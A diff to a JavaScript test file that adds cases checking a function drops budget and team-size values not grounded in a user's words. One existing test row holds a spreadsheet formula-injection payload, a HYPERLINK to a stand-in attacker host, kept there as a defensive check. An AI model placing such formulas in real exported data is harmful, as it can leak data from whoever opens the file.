@@ -63,6 +63,12 @@ describe('a quote that holds no value', () => {
     ['a language of another script', 'language', 'es', 'سلام خوبی'],
     ['no language', 'language', 'xq', 'hola, buenas'],
     ['an intent in a letter', 'intent', 'high', 'a', 'a car'],
+    ['a sum in a possessive', 'budget', { max: 2 }, 'I need a website for my shop'],
+    ['a sum in "some"', 'budget', { max: 59 }, 'I need some chairs'],
+    ['a total that nobody drew', 'budget', { max: 600 }, 'I spent 100, 200 and 300'],
+    ['one more than was said', 'budget', { max: 5001 }, 'my budget is 5000 euros'],
+    ['people in "some"', 'team_size', { min: 20, max: 29 }, 'we have some chairs'],
+    ['people in a date', 'team_size', { min: 4, max: 4 }, 'my boss called me on the 3rd'],
     ['a formula', 'company', 'HYPERLINK evil', '=HYPERLINK("http://evil.example/?a=1","x")'],
   ])('is dropped: %s', (_, field, value, quote, content = quote) => {
     expect(groundOne(field, value, quote, user(content))).toBeUndefined();
